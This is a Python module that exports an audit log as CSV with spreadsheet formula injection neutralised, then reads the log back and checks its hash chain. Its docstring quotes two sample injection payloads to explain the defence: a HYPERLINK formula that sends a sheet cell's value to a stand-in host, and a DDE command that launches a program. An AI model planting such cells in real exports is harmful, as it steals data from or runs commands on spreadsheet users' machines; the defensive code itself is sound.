"""The audit log as CSV, safe to double-click: text a spreadsheet would run as a formula is neutralised.

A note such as `=HYPERLINK("http://x/?"&Pengaturan!B10,"lihat")` or `=cmd|' /C calc'!A0` is data, but
Excel and LibreOffice evaluate a CSV cell that starts with `=`, `+`, `-` or `@` (and some read a leading
tab or carriage return past). As OWASP's "CSV Injection" advises, such a cell is written with a leading
apostrophe. Numbers stay numbers. The apostrophe is added reversibly (a text that already starts with
apostrophes before such a character gets one more), so `check` can read each note back exactly as it was
logged and hashed.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from dataclasses import fields

from kinerja_xl.domain import audit

# OWASP's list, the null character (OWASP ASVS 1.2.10) and the full-width forms some Excel input methods accept.
FORMULA_START = frozenset("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")


def neutralise(value):
    """A cell as written to the CSV: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.lstrip("'")[:1] in FORMULA_START:
        return "'" + value
    return value


def restore(text: str) -> str:
    """The inverse of `neutralise` for a cell read back from the CSV."""
    if text.startswith("'") and text.lstrip("'")[:1] in FORMULA_START:
        return text[1:]
    return text


def to_bytes(header: Iterable[str], rows: Iterable[Iterable]) -> bytes:
    """UTF-8 with BOM, so Excel shows Indonesian text correctly when the CSV is double-clicked."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([neutralise(v) for v in header])
    writer.writerows([neutralise(v) for v in row] for row in rows)
    return buf.getvalue().encode("utf-8-sig")


def from_bytes(raw: bytes) -> list[list[str]]:
    """Header and rows as logged (every cell as text); UnicodeDecodeError or csv.Error when it is not such a CSV."""
    text = raw.decode("utf-8-sig")
    return [[restore(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""), strict=True)]


def read_log(raw: bytes, genesis: str = audit.GENESIS) -> tuple[list[audit.LogEntry], list[str]]:
    """The entries of an exported log CSV and every break in their chain ("baris N: …", N the CSV row, as on
    the Log sheet). ValueError when the bytes are not such a CSV."""
    try:
        rows = from_bytes(raw)
    except csv.Error as exc:
        raise ValueError(str(exc)) from None
    if not rows or len(rows[0]) != len(fields(audit.LogEntry)) or rows[0][0] != "No":
        raise ValueError(f"baris judulnya bukan judul log kinerja-xl ({len(fields(audit.LogEntry))} kolom, diawali 'No')")
    entries, unreadable = audit.parse_rows(rows[1:])
    problems = [p.removeprefix("Log ") for p in unreadable + audit.verify(entries, genesis)]
    return entries, [p[0].lower() + p[1:] for p in problems]
